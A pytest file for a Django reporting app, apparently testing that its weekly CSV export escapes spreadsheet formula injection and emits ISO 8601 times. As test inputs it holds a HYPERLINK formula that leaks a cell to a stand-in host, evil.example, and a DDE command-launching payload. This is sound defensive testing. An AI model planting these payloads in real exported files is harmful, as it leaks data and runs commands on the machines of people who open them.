"""The weekly CSV cannot carry a spreadsheet formula: vendor and environment names and breach reasons are user text."""

from __future__ import annotations

import csv
import io

import pytest

from reports.exports import report_csv
from reports.selectors import report_weekly
from requests_app.choices import EventKind

from .conftest import ist, make_event

pytestmark = pytest.mark.django_db
WEEK = "2026-W47"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula_and_the_figures_stay_numbers(dataset):
    world = dataset.world
    world.vendor_a.name = "=cmd|' /C calc'!A0"
    world.vendor_a.save()
    dataset.bihar.name = "@SUM(1+1)"
    dataset.bihar.save()
    # A comment before R1's resolution fell due becomes the breach's reason.
    make_event(dataset.requests["R1"], EventKind.COMMENT, ist(16, 21), REASON)

    rows = list(csv.DictReader(io.StringIO(report_csv(report_weekly(user=world.pm, week=WEEK)))))

    reasons = {row["value"] for row in rows if row["section"] == "breach" and row["metric"] == "reason"}
    assert f"'{REASON}" in reasons
    assert {row["label"] for row in rows if row["dimension"] == "vendor"} >= {"'=cmd|' /C calc'!A0"}
    assert {row["label"] for row in rows if row["dimension"] == "environment"} >= {"'@SUM(1+1)"}
    dangerous = [
        (row["section"], row["metric"], name, cell)
        for row in rows
        for name, cell in row.items()
        if cell.startswith(TRIGGERS) and not (name == "value" and _is_number(cell))
    ]
    assert dangerous == []
    negative_changes = [row for row in rows if row["section"] == "change" and row["value"].startswith("-")]
    assert negative_changes and all(_is_number(row["value"]) for row in negative_changes)


ISO_WITH_OFFSET = r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$"


def test_csv_times_are_iso_8601_with_their_offset(dataset):
    import re

    rows = list(csv.DictReader(io.StringIO(report_csv(report_weekly(user=dataset.world.pm, week=WEEK)))))
    times = [row["value"] for row in rows if re.match(r"^\d{4}-\d\d-\d\dT", row["value"])]
    assert times
    assert all(re.match(ISO_WITH_OFFSET, value) for value in times), times
    assert any(value.endswith("+05:30") for value in times)
